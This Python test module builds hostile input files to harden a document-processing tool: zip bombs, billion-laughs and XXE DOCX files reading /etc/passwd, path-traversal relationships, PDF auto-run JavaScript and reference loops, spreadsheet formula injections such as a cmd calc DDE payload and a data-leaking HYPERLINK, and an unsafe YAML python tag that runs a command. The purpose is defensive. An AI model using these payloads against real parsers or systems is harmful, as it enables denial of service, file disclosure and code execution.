"""The second hostile set (harden2): the shapes tests/hostile_files.py did not make, written by
code at test time, never kept as blobs. ``python -m tests.hostile_set FOLDER`` writes them all
(some are large: a 1 GB zip bomb, 1,000,000 rows); the tests call the small makers one by one.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path

from tests.hostile_files import W, _letter_members, _pdf, _stream, _zip, bomb_zip, pdf_file

EXAMPLES = Path(__file__).resolve().parent.parent / "data" / "examples"
LETTER = EXAMPLES / "cong-van-ubnd-tinh-kon-tum.yaml"
BODY = f'<w:document xmlns:w="{W}"><w:body>'


def _document(folder: Path, name: str, document: str | bytes,
              extra: dict[str, bytes] | None = None) -> Path:
    members = _letter_members(folder)
    members["word/document.xml"] = document.encode() if isinstance(document, str) else document
    members.update(extra or {})
    return _zip(folder / name, members)


def _para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def png_header_bomb(width: int, height: int) -> bytes:
    """A grey PNG of ``width`` × ``height`` whose pixels are all zero: the header tells the
    size, the data inflates to it (about 1 KB a megapixel compressed)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))
    squeeze = zlib.compressobj(9)
    row = b"\0" * (width + 1)
    body = b"".join(squeeze.compress(row) for _ in range(height)) + squeeze.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0,
                                                              0, 0, 0))
            + chunk(b"IDAT", body) + chunk(b"IEND", b""))


# --- DOCX ----------------------------------------------------------------------------------

def docx(folder: Path, name: str) -> Path:
    path = folder / name
    if name == "bomb-1g.docx":
        return bomb_zip(path, "word/document.xml", size=1 << 30, others={
            k: v for k, v in _letter_members(folder).items() if k != "word/document.xml"})
    if name == "entries-100k.docx":
        members = _letter_members(folder)
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
            for member, data in members.items():
                archive.writestr(member, data)
            for n in range(100_000):
                archive.writestr(f"x/{n}", b"")
        return path
    if name == "laughs.docx":
        ents = ['<!ENTITY l0 "lol">'] + [
            f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
        doctype = f"<!DOCTYPE w:document [{''.join(ents)}]>"
        return _document(folder, name, f'<?xml version="1.0"?>{doctype}{BODY}'
                         f'{_para("&l9;")}</w:body></w:document>')
    if name == "xxe.docx":
        doctype = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        return _document(folder, name, f'<?xml version="1.0"?>{doctype}{BODY}'
                         f'{_para("Kính gửi: &x;")}</w:body></w:document>')
    if name == "deep-100k.docx":
        return _document(folder, name, BODY + "<w:p>" * 100_000 + "</w:p>" * 100_000
                         + "</w:body></w:document>")
    if name == "one-para-50mb.docx":
        words = ["xây", "dựng", "nông", "thôn", "mới", "phong", "trào", "thi", "đua", "xã"]
        pick = random.Random(30)
        text = " ".join(pick.choice(words) for _ in range(9_000_000))[: 50 << 20]
        return _document(folder, name, BODY + _para(text) + "</w:body></w:document>")
    if name == "image-30000.docx":
        members = _letter_members(folder)
        members["word/media/big.png"] = png_header_bomb(30_000, 30_000)
        rels = members["word/_rels/document.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rIdBig" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/image" Target="media/big.png"/>'
            b"</Relationships>")
        members["word/_rels/document.xml.rels"] = rels
        types = members["[Content_Types].xml"]
        if b'Extension="png"' not in types:
            members["[Content_Types].xml"] = types.replace(
                b"<Default ", b'<Default Extension="png" ContentType="image/png"/><Default ',
                1)
        document = members["word/document.xml"].decode()
        members["word/document.xml"] = document.replace("</w:body>", _picture() + "</w:body>",
                                                        1).encode()
        return _zip(path, members)
    if name in ("macro.docm", "template.dotx"):
        members = _letter_members(folder)
        kind = ("application/vnd.ms-word.document.macroEnabled.main+xml" if name.endswith("m")
                else "application/vnd.openxmlformats-officedocument.wordprocessingml."
                "template.main+xml")
        types = members["[Content_Types].xml"].decode()
        start = types.find('PartName="/word/document.xml" ContentType="') + 43
        members["[Content_Types].xml"] = (types[:start] + kind
                                          + types[types.find('"', start):]).encode()
        if name.endswith("m"):
            members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 508
        return _zip(path, members)
    if name == "rels-outside.docx":
        members = _letter_members(folder)
        members["word/_rels/document.xml.rels"] = members["word/_rels/document.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rIdOut" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/image" Target="../../../../../../etc/passwd"/>'
            b'<Relationship Id="rIdExt" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/>'
            b"</Relationships>")
        document = members["word/document.xml"].decode()
        members["word/document.xml"] = document.replace(
            "</w:body>", _picture("rIdOut") + _picture("rIdExt", link=True) + "</w:body>",
            1).encode()
        return _zip(path, members)
    if name == "remote-template.docx":  # Word would fetch the template as it opens the file
        members = _letter_members(folder)
        members["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
            b'http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="http://127.0.0.1:9/mau.dotm" '
            b'TargetMode="External"/></Relationships>')
        settings = members["word/settings.xml"].decode()
        at = settings.find(">", settings.find("<w:settings")) + 1
        members["word/settings.xml"] = (
            settings[:at] + '<w:attachedTemplate r:id="rIdT" xmlns:r="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships"/>' + settings[at:]).encode()
        return _zip(path, members)
    if name == "password.docx":
        return _cfb(path, {"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"\0" * 64,
                           "EncryptedPackage": b"\0" * 4096})
    if name == "doc-renamed.docx":
        return _cfb(path, {"WordDocument": b"\xec\xa5" + b"\0" * 4094})
    raise ValueError(name)


def _picture(rel: str = "rIdBig", link: bool = False) -> str:
    blip = f'r:link="{rel}"' if link else f'r:embed="{rel}"'
    return (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/>'
        '<wp:docPr id="99" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
        'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/>'
        f'</pic:nvPicPr><pic:blipFill><a:blip {blip} xmlns:r="http://schemas.openxmlformats.'
        'org/officeDocument/2006/relationships"/></pic:blipFill><pic:spPr><a:xfrm>'
        '<a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"/>'
        '</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')


def _cfb(path: Path, streams: dict[str, bytes]) -> Path:
    """A minimal OLE compound file (what Word 97 and an Office password make) holding
    ``streams``, each in whole 512-byte sectors of the regular FAT."""
    sectors: list[bytes] = []
    entries = []
    for stream_name, data in streams.items():
        data = data + b"\0" * (-len(data) % 512)
        entries.append((stream_name, len(sectors), len(data)))
        sectors += [data[i:i + 512] for i in range(0, len(data), 512)]
    directory_at = len(sectors)
    fat_at = directory_at + 1
    fat = []
    for _, start, size in entries:
        count = size // 512
        fat += [start + i + 1 for i in range(count - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFE, 0xFFFFFFFD]  # the directory's sector, the FAT's own
    fat += [0xFFFFFFFF] * (128 - len(fat))

    def entry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF,
              right: int = 0xFFFFFFFF) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1,
                                                        0xFFFFFFFF, right, child)
                + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 + struct.pack("<IQ", start, size))

    dir_entries = [entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1)]
    for n, (stream_name, start, size) in enumerate(entries, start=1):
        right = n + 1 if n < len(entries) else 0xFFFFFFFF
        dir_entries.append(entry(stream_name, 2, start, size, right=right))
    directory = b"".join(dir_entries).ljust(512, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, 1, directory_at, 0, 0x1000, 0xFFFFFFFE, 0,
                            0xFFFFFFFE, 0)
              + struct.pack("<I", fat_at) + b"\xff" * (436 - 4))
    path.write_bytes(header + b"".join(sectors) + directory
                     + struct.pack("<128I", *fat))
    return path


# --- PDF -----------------------------------------------------------------------------------

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"


def pdf(folder: Path, name: str) -> Path:
    path = folder / name
    text = _stream(b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET")
    if name == "pages-5000.pdf":
        count = 5000
        kids = b" ".join(b"%d 0 R" % (n + 4) for n in range(count))
        objects = [CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count), text]
        objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
                    ] * count
        data = _pdf(objects)
    elif name == "scan-20000.pdf":
        side = 20_000
        squeeze = zlib.compressobj(9)
        row = b"\xff" * side
        raw = b"".join(squeeze.compress(row) for _ in range(side)) + squeeze.flush()
        image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace "
                 b"/DeviceGray /BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n"
                 % (side, side, len(raw)) + raw + b"\nendstream")
        page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources "
                b"<< /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>")
        data = _pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page,
                     _stream(b"q 595 0 0 842 0 0 cm /Im1 Do Q"), image])
    elif name == "kids-loop.pdf":
        data = _pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                     b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>"])
    elif name == "objstm-loop.pdf":
        data = _objstm_loop()
    elif name == "javascript.pdf":
        data = _pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript "
                     b"<< /Names [(a) 5 0 R] >> >> >>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                     b"/AA << /O 5 0 R >> >>", text,
                     b"<< /S /JavaScript /JS (app.alert\\('harden2-js'\\);) >>"])
    elif name == "truncated-tail.pdf":
        whole = pdf_file(folder, "plain.pdf").read_bytes()
        data = whole[: len(whole) - 60]
    else:
        raise ValueError(name)
    path.write_bytes(data)
    return path


def _objstm_loop() -> bytes:
    """An object stream that /Extends itself, the cross-reference stream sending the page and
    the page tree into it."""
    inner = b"2 0 3 45 << /Type /Pages /Kids [3 0 R] /Count 1 >> " \
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    out = bytearray(b"%PDF-1.5\n")
    at1 = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    at4 = len(out)
    out += (b"4 0 obj\n<< /Type /ObjStm /N 2 /First 8 /Extends 4 0 R /Length %d >>\nstream\n"
            % len(inner) + inner + b"\nendstream\nendobj\n")
    at5 = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 1, at1, 0),
            struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 2, 4, 1),
            struct.pack(">BIH", 1, at4, 0), struct.pack(">BIH", 1, at5, 0)]
    table = b"".join(rows)
    out += (b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Prev %d /Length %d >>\n"
            b"stream\n" % (at5, len(table)) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % at5
    return bytes(out)


# --- lists ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
            "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def sheet(folder: Path, name: str) -> Path:
    path = folder / name
    if name == "rows-1m.csv":
        with path.open("w", encoding="utf-8") as out:
            out.write("kinh_gui,ten\n")
            out.writelines(f"UBND xã {n},{n}\n" for n in range(1_000_000))
    elif name == "cols-16384.csv":
        path.write_text(",".join(["kinh_gui"] + [f"c{n}" for n in range(16_383)]) + "\n"
                        + ",".join(["UBND xã A"] + ["x"] * 16_383) + "\n", encoding="utf-8")
    elif name == "cell-10mb.csv":
        path.write_text("kinh_gui,ten\nUBND xã A," + "x" * (10 << 20) + "\n", encoding="utf-8")
    elif name == "formulas.csv":
        lines = ["kinh_gui,ten"] + [f'"{f.replace(chr(34), chr(34) * 2)}",x' for f in FORMULAS]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    elif name == "utf16.csv":
        path.write_text("kinh_gui,ten\nUBND xã Tân Thành,Tân Thành\n", encoding="utf-16")
    elif name == "cp1258.csv":
        path.write_bytes(cp1258("kinh_gui,ten\nUBND xã Tân Thành,Tân Thành\n"))
    elif name == "nul.csv":
        path.write_bytes(b"kinh_gui,ten\nUBND x\xc3\xa3 A\0\0,A\0\n")
    elif name in ("rows-1m.xlsx", "cols-16384.xlsx", "cell-10mb.xlsx", "formulas.xlsx",
                  "bomb-1g.xlsx"):
        return _xlsx(path, name)
    else:
        raise ValueError(name)
    return path


def cp1258(text: str) -> bytes:
    """``text`` as Windows-1258 writes it: a letter the code page lacks as one character is
    its base letter and a combining tone mark."""
    import unicodedata

    out = b""
    for char in unicodedata.normalize("NFC", text):
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", char)
            out += (unicodedata.normalize("NFC", parts[:-1]).encode("cp1258")
                    + parts[-1].encode("cp1258"))
    return out


def _xlsx(path: Path, name: str) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["kinh_gui", "ten"])
    book.active.append(["UBND xã A", "A"])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    target = "xl/worksheets/sheet1.xml"
    if name == "bomb-1g.xlsx":
        return bomb_zip(path, target, size=1 << 30,
                        others={k: v for k, v in members.items() if k != target})
    head, tail = members[target].split(b"<sheetData>")[0], b"</sheetData></worksheet>"
    rows: list[bytes] = []
    cell = '<c r="{0}" t="inlineStr"><is><t>{1}</t></is></c>'
    if name == "rows-1m.xlsx":
        rows = [f'<row r="{n}">{cell.format(f"A{n}", f"UBND xã {n}")}</row>'.encode()
                for n in range(2, 1_000_002)]
    elif name == "cols-16384.xlsx":
        from openpyxl.utils import get_column_letter

        rows = [("<row r=\"2\">" + "".join(cell.format(f"{get_column_letter(c)}2", "x")
                                           for c in range(1, 16_385)) + "</row>").encode()]
    elif name == "cell-10mb.xlsx":
        rows = [f'<row r="2">{cell.format("A2", "x" * (10 << 20))}</row>'.encode()]
    elif name == "formulas.xlsx":
        for n, formula in enumerate(FORMULAS, start=2):
            escaped = formula.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")
            rows.append(f'<row r="{n}">{cell.format(f"A{n}", escaped)}'
                        f'<c r="B{n}"><f>{escaped.lstrip("=")}</f><v>7</v></c></row>'.encode())
    header = (f'<row r="1">{cell.format("A1", "kinh_gui")}{cell.format("B1", "ten")}'
              f"</row>").encode()
    members[target] = head + b"<sheetData>" + header + b"".join(rows) + tail
    return _zip(path, members)


# --- specs ---------------------------------------------------------------------------------

TEMPLATE_MARKS = "{{ 7*7 }} {% for x in range(3) %}lặp{% endfor %} {# c #} ${7*7} #{7*7}"
CONTROL = "a\x00b\x01c\x0bd\x1b[31m\u202eđảo\u202c\u200f\ufeff\ud7ff"


def spec(folder: Path, name: str) -> Path:
    import yaml

    path = folder / name
    base = yaml.safe_load(LETTER.read_text(encoding="utf-8"))
    if name == "string-10mb.yaml":
        base["noi_dung"] = "xây dựng nông thôn mới " * ((10 << 20) // 25)
    elif name == "template-marks.yaml":
        _every_text(base, lambda text: f"{text} {TEMPLATE_MARKS}")
    elif name == "noi-nhan-100k.yaml":
        base["noi_nhan"] = [f"UBND xã {n}" for n in range(100_000)]
    elif name == "noi-nhan-90k.yaml":
        base["noi_nhan"] = [f"UBND xã {n}" for n in range(90_000)]
    elif name == "control.yaml":
        _every_text(base, lambda text: f"{text} {CONTROL}")
        path.write_text(yaml.safe_dump(base, allow_unicode=False), encoding="utf-8")
        return path
    elif name == "python-tags.yaml":
        path.write_text("loai: !!python/name:os.system\ntrich_yeu: !!python/object/new:"
                        "subprocess.Popen [[touch, /tmp/harden2-pwned]]\n", encoding="utf-8")
        return path
    else:
        raise ValueError(name)
    path.write_text(yaml.safe_dump(base, allow_unicode=True, width=1 << 30), encoding="utf-8")
    return path


def _every_text(data: dict, change) -> None:  # type: ignore[no-untyped-def]
    for key, value in data.items():
        if isinstance(value, str) and key not in ("loai",):
            data[key] = change(value)
        elif isinstance(value, list):
            data[key] = [change(v) if isinstance(v, str) else v for v in value]
        elif isinstance(value, dict):
            _every_text(value, change)


ALL = {
    docx: ["bomb-1g.docx", "entries-100k.docx", "laughs.docx", "xxe.docx", "deep-100k.docx",
           "one-para-50mb.docx", "image-30000.docx", "macro.docm", "template.dotx",
           "rels-outside.docx", "remote-template.docx", "password.docx", "doc-renamed.docx"],
    pdf: ["pages-5000.pdf", "scan-20000.pdf", "kids-loop.pdf", "objstm-loop.pdf",
          "javascript.pdf", "truncated-tail.pdf"],
    sheet: ["rows-1m.csv", "cols-16384.csv", "cell-10mb.csv", "formulas.csv", "utf16.csv",
            "cp1258.csv", "nul.csv", "rows-1m.xlsx", "cols-16384.xlsx", "cell-10mb.xlsx",
            "formulas.xlsx", "bomb-1g.xlsx"],
    spec: ["string-10mb.yaml", "template-marks.yaml", "noi-nhan-100k.yaml",
           "noi-nhan-90k.yaml", "control.yaml", "python-tags.yaml"],
}


def main(folder: str) -> None:
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    for maker, names in ALL.items():
        for name in names:
            maker(out, name)
            print(name, (out / name).stat().st_size)


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "/tmp/harden2-files")
